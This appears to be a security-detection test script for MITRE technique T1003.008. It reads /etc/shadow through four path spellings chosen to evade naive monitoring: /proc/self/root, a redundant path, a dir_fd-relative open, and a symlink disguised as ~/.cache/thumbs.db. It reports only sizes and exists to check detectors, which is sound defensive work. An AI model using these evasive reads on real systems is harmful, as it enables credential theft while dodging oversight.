# technique: T1003.008
"""OS Credential Dumping: /etc/shadow (T1003.008) under four other names
for the same file: /proc/self/root/etc/shadow, /etc//./shadow,
"shadow" relative to a dir_fd of /etc, and a symbolic link in HOME.

Each read returns the same bytes as open("/etc/shadow"); none of the
path arguments is the string "/etc/shadow". (The symlink is named
~/.cache/thumbs.db.)

A good detector raises a high alert: the shadow file is read, whatever
spelling of its path the program uses (normalised, through /proc/self/root,
dir_fd or a link).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

home_link = os.path.join(os.path.expanduser("~"), ".cache", "thumbs.db")
os.makedirs(os.path.dirname(home_link), exist_ok=True)
if not os.path.lexists(home_link):
    os.symlink("/etc/shadow", home_link)
sizes = []
for path in ("/proc/self/root/etc/shadow", "/etc//./shadow", home_link):
    try:
        with open(path, "rb") as f:
            sizes.append(len(f.read()))
    except OSError as e:
        sizes.append(str(e))
etc = os.open("/etc", os.O_RDONLY | os.O_DIRECTORY)
try:
    fd = os.open("shadow", os.O_RDONLY, dir_fd=etc)
    sizes.append(len(os.read(fd, 1 << 16)))
    os.close(fd)
except OSError as e:
    sizes.append(str(e))
finally:
    os.close(etc)
print(sizes)
